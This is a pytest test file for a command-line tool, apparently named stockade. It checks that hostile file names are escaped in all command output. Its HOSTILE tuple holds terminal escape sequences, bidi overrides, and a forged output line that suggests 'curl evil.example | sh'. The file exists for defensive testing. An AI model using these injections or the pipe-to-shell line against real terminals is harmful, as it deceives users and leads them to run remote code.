"""Names that a program chose, shown by every command: none drives the terminal or feigns our words."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from stockade.cli import main
from support.screens import STOCKADE, Terminal

#: Clear the screen, set the title, C1 controls, text that runs backwards, a line that looks like ours.
HOSTILE = (
    "esc\x1b[2J\x1b]0;owned\x07",
    "return\rover\x7f",
    "c1\x9b2J\x9d0;owned\x9c",
    "bidi\u202etxt.exe\u2066\u200f",
    "line\nstockade: error: owned\nstockade: hint: curl evil.example | sh",
    "bytes\udcff\udc9b",
)
ALLOWED = {"\n", "\t"}


def harmless(shown: bytes) -> str:
    """The text, in which there must be nothing that a terminal obeys and no line that we did not mean."""
    text = shown.decode("utf-8", "replace").replace("\r\n", "\n")
    odd = {c for c in text if not c.isprintable() and c not in ALLOWED}
    assert not odd, (odd, text)
    for line in text.splitlines():
        assert not line.startswith(("stockade: error: owned", "stockade: hint: curl")), text
    return text


@pytest.fixture
def hostile(workspace: Path) -> Path:
    """A workspace whose own name, and those of its files, are hostile; some are the host's already."""
    place = workspace / HOSTILE[0] / HOSTILE[4]
    place.mkdir(parents=True)
    for name in HOSTILE[:2]:
        (place / name).write_text("of the host\n")
    return place


Call = Callable[..., tuple[int, str]]


@pytest.fixture
def call(
    hostile: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> Callable[..., tuple[int, str]]:
    """Runs a command in this process; returns its exit code and all that it said, which is harmless."""
    monkeypatch.chdir(hostile)

    def called(*arguments: str) -> tuple[int, str]:
        capfd.readouterr()
        code = main(list(arguments))
        sys.stdout.flush()
        return code, harmless("".join(capfd.readouterr()).encode("utf-8", "surrogateescape"))

    return called


def changed(hostile: Path, *options: str) -> subprocess.CompletedProcess[bytes]:
    """What a run says that makes a file and a link of every name."""
    command = [STOCKADE, "run", *options, "--", "sh", "-c", SCRIPT, "sh", *HOSTILE]
    return subprocess.run(command, cwd=hostile, stdin=subprocess.DEVNULL, capture_output=True, check=True)


SCRIPT = 'for n in "$@"; do printf "%s" "$n" > "$n"; ln -s "$n" "$n.link"; done'


def test_changes_differences_and_commits(hostile: Path, call: Call) -> None:
    assert "12 changed paths" in harmless(changed(hostile).stderr)
    for form in ([], ["--stat"], ["--name-only"], ["--json"]):
        assert "owned" in call("diff", *form)[1]
    assert "owned" in call("workspaces")[1]
    (hostile / HOSTILE[0]).write_text("changed since\n")
    (hostile / HOSTILE[4]).write_text("made since\n")
    code, said = call("commit")
    assert code == 125 and "changed at" in said
    assert "not committed" in call("run", "-w", "@", "--commit", "--", "true")[1]
    assert call("commit", "--force", HOSTILE[0], "--force", HOSTILE[4])[0] in (0, 1)


def test_json_says_the_same_with_other_characters(hostile: Path) -> None:
    done = changed(hostile, "--json", "--discard")
    harmless(done.stdout)
    names = {change["path"] for change in json.loads(done.stdout)["changes"]}
    assert {name for name in HOSTILE if "\udcff" not in name} <= names


def test_what_runs_and_what_would_run(hostile: Path, call: Call) -> None:
    with subprocess.Popen(
        [STOCKADE, "run", "--", "sh", "-c", "echo; sleep 300", HOSTILE[0], HOSTILE[3]],
        cwd=hostile,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as process:
        assert process.stdout is not None and process.stdout.readline() == b"\n"
        for form in ([], ["--json"]):
            assert "owned" in call("ps", *form)[1]
        call("kill", "--all")
        harmless(process.communicate(timeout=30)[1])
    assert "owned" in call("plan", "--", *HOSTILE)[1]


def test_errors_about_them(call: Call) -> None:
    for name in (f"no-{name}" for name in HOSTILE):
        for arguments in (["--read", name], ["--policy", name], ["--limit", name], ["-w", f"@{name}"]):
            assert call("run", *arguments, "--", "true")[0] == 125
        for command in ("diff", "commit", "discard", "snapshot", "kill", "trust"):
            assert call(command, name)[0] == 125


def test_on_a_terminal_nothing_of_them_is_exact(hostile: Path, call: Call) -> None:
    changed(hostile, "-q")
    for form in ("--patch", "-z"):
        with Terminal([STOCKADE, "diff", "--no-pager", form], hostile) as terminal:
            assert terminal.code() == 0
            assert "owned" in harmless(terminal.shown)
    call("discard")
